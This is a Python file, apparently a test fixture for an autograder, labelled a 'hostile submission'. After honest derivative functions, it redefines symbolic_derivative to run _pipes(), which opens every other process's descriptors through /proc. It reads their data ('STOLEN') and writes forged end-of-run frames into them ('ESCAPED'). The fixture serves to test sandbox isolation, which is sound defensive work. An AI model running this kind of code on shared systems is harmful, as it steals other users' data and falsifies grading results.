"""Hostile submission (runtime): Reads and writes classmates' pipes: every other process's descriptors opened through /proc.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import os
import select

PEEK = 1 << 16


def _pipes():
    """Every other process's descriptors, opened through /proc, read (what flows to the
    grader) and written (forged frames)."""
    report = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == os.readlink("/proc/self"):  # ourselves, as /proc numbers us
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            report.append(f"{pid}: {exc.strerror}")
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            for flags, what in ((os.O_RDONLY, "read"), (os.O_WRONLY, "write")):
                try:
                    handle = os.open(path, flags | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    if what == "read" and select.select([handle], [], [], 0.05)[0]:
                        data = os.read(handle, PEEK)
                        print("STOLEN:", path, data[:80])
                    elif what == "write":
                        os.write(handle, b"\x00\x00\x00\x10{\"event\":\"end\"}")
                        print("ESCAPED: wrote into", path)
                except OSError:
                    pass
                finally:
                    os.close(handle)
    # our own descriptors: nothing but stdio, our output and the one result channel
    mine = sorted(int(n) for n in os.listdir("/proc/self/fd"))
    print("OWN-FDS", mine, [_link(n) for n in mine])
    return report


def _link(n):
    try:
        return os.readlink(f"/proc/self/fd/{n}")
    except OSError:
        return "?"


def symbolic_derivative():
    _pipes()
    return sp.Symbol("x") ** 2  # wrong: nothing of anyone else's could help here
